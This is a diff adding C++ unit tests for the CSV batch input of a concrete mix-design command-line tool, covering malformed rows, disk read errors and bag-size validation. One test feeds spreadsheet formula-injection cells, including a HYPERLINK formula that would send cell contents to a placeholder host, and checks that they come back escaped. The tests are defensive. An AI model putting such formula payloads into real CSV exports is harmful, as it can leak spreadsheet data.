@@ -1,0 +1,159 @@
+#include "cli/batch.h"
+#include "cli/batchinput.h"
+#include "cli/csvreader.h"
+
+#include <gtest/gtest.h>
+
+#include <cerrno>
+#include <cstring>
+#include <sstream>
+
+using namespace cli;
+
+namespace {
+
+const std::string kHeader = "strength,specimen,slump,stone,admixture,dose,moisture\n";
+
+} // namespace
+
+// What no spreadsheet writes: each row is refused as a whole, in memory of one row at most.
+TEST(CsvReader, HostileRowsAreFaultsNotFields)
+{
+    struct Row {
+        std::string input; // after a two-column header
+        std::string fault;
+        size_t fieldCount;
+        size_t keptFields;
+    };
+    const Row rows[] = {
+        {"1,2\r\n", "", 2, 2},
+        {"2\r40,1\n", "a carriage return outside quotes that does not end the line", 2, 2},
+        {"1,2\r", "a carriage return outside quotes that does not end the line", 2, 2},
+        {"\"1\r2\",3\n", "", 2, 2}, // inside quotes a CR is text
+        {std::string(10000, ','), "", 10001, 3},
+        {"1," + std::string((1 << 20) + 1, '9') + "\n", "a field is longer than 1 MiB", 2, 2},
+        {"1,\"" + std::string((1 << 20) + 1, '9') + "\"\n", "a field is longer than 1 MiB", 2, 2},
+    };
+    for (const auto& row : rows) {
+        std::istringstream in("a,b\n" + row.input);
+        CsvReader reader(in);
+        std::vector<std::string> fields;
+        ASSERT_TRUE(reader.readHeader(fields));
+        ASSERT_TRUE(reader.next(fields)) << row.input.substr(0, 20);
+        EXPECT_EQ(reader.fault(), row.fault) << row.input.substr(0, 20);
+        EXPECT_EQ(reader.fieldCount(), row.fieldCount) << row.input.substr(0, 20);
+        EXPECT_EQ(fields.size(), row.keptFields) << row.input.substr(0, 20);
+        for (const auto& f : fields)
+            EXPECT_LE(f.size(), size_t(1) << 20);
+    }
+}
+
+#ifdef __GLIBC__
+namespace {
+
+// A C stream that gives `bytes` and then fails every read with EIO, as a bad disk or a dropped
+// network file does.
+struct FailingFile {
+    std::string bytes;
+    size_t at = 0;
+};
+
+ssize_t readThenFail(void* cookie, char* buffer, size_t size)
+{
+    auto* f = static_cast<FailingFile*>(cookie);
+    if (f->at == f->bytes.size()) {
+        errno = EIO;
+        return -1;
+    }
+    const size_t n = std::min(size, f->bytes.size() - f->at);
+    std::memcpy(buffer, f->bytes.data() + f->at, n);
+    f->at += n;
+    return ssize_t(n);
+}
+
+} // namespace
+
+// A read error ends the batch with 74 after the rows finished before it; the row it cut is
+// neither designed nor counted.
+TEST(Batch, ReadErrorIsToldAndNeverDesignsACutRow)
+{
+    struct Case {
+        std::string before; // what is read before the error
+        int status;
+        size_t outputLines;
+        std::string err;
+    };
+    const std::string designed = "240,cube,10,2,no,,5\n";
+    const std::string refused = "240,cube,10,2,no,,99\n";
+    const Case cases[] = {
+        {"", 74, 0, "mixdesign: cannot read in.csv: Input/output error\n"},
+        {"strength,spec", 74, 0, "mixdesign: cannot read in.csv: Input/output error\n"},
+        {kHeader + designed + "240,cube,10,2,no,,1", 74, 1, "mixdesign: cannot read in.csv: Input/output error\n"},
+        {kHeader + refused + designed + "240,cu", 74, 2,
+         "mixdesign: 1 of 2 rows not designed\nmixdesign: cannot read in.csv: Input/output error\n"},
+    };
+    for (const auto& c : cases) {
+        FailingFile source{c.before};
+        std::FILE* file = fopencookie(&source, "r", {readThenFail, nullptr, nullptr, nullptr});
+        ASSERT_NE(file, nullptr);
+        BatchInput input(file);
+        std::istream in(&input);
+        std::ostringstream out, err;
+        Options options;
+        options.batchFile = "in.csv";
+        EXPECT_EQ(runBatch(in, out, err, options, "in.csv"), c.status) << c.before;
+        EXPECT_EQ(err.str(), c.err) << c.before;
+        const std::string text = out.str();
+        EXPECT_EQ(size_t(std::count(text.begin(), text.end(), '\n')), c.outputLines) << c.before;
+        // The cut row (moisture 1 instead of 12, or a specimen "cu") never reaches the output.
+        EXPECT_EQ(text.find("\"moisture\":\"1\""), std::string::npos);
+        std::fclose(file);
+    }
+}
+#endif
+
+// bag_kg takes what --bag-kg takes: a bag as sold, never a slip that orders billions of bags.
+TEST(Batch, BagSizeColumnFollowsTheOptionsRule)
+{
+    const std::pair<const char*, bool> rows[] = {
+        {"50", true}, {"40", true}, {"", true}, {"45", false}, {"1.5", false}, {"0.0000000001", false}, {"x", false}};
+    for (const auto& [bag, accepted] : rows) {
+        std::istringstream in("strength,specimen,slump,stone,admixture,dose,moisture,volume,bag_kg\n"
+                              "240,cube,10,2,no,,5,10," +
+                              std::string(bag) + "\n");
+        std::ostringstream out, err;
+        Options options;
+        options.batchFile = "-";
+        EXPECT_EQ(runBatch(in, out, err, options), accepted ? 0 : 2) << bag;
+        EXPECT_EQ(out.str().find("malformed_row") == std::string::npos, accepted) << bag << out.str();
+        if (!accepted) {
+            EXPECT_NE(out.str().find("bag_kg"), std::string::npos) << bag;
+        }
+    }
+}
+
+// A typed cell that a spreadsheet would run as a formula comes back as text, designed or not.
+TEST(Batch, CsvCellsNeverReachASpreadsheetAsFormulas)
+{
+    const std::pair<std::string, std::string> rows[] = {
+        {"240,cube,10,2,no,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5",
+         "240,cube,10.0,2,no,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5,"},
+        {"+1,cube,10,2,no,,5", "\"'+1\",cube,10.0,2,no,,5,"},
+        {"-1+2,cube,10,2,no,,5", "\"'-1+2\",cube,10.0,2,no,,5,"},
+        {"@SUM(A1),cube,10,2,no,,5", "\"'@SUM(A1)\",cube,10.0,2,no,,5,"},
+        {"\"\t=1+1\",cube,10,2,no,,5", "\"'\t=1+1\",cube,10.0,2,no,,5,"},
+        {"\"\r=1+1\",cube,10,2,no,,5", "\"'\r=1+1\",cube,10.0,2,no,,5,"},
+        {"240,cube,10,2,no,,-5", "240,cube,10.0,2,no,,-5,"}, // a number, never run
+    };
+    for (const auto& [input, start] : rows) {
+        std::istringstream in(kHeader + input + "\n");
+        std::ostringstream out, err;
+        Options options;
+        options.batchFile = "-";
+        options.batchFormat = BatchFormat::Csv;
+        runBatch(in, out, err, options);
+        const std::string text = out.str();
+        const std::string row = text.substr(text.find("\r\n") + 2);
+        EXPECT_EQ(row.substr(0, start.size()), start) << input;
+    }
+}
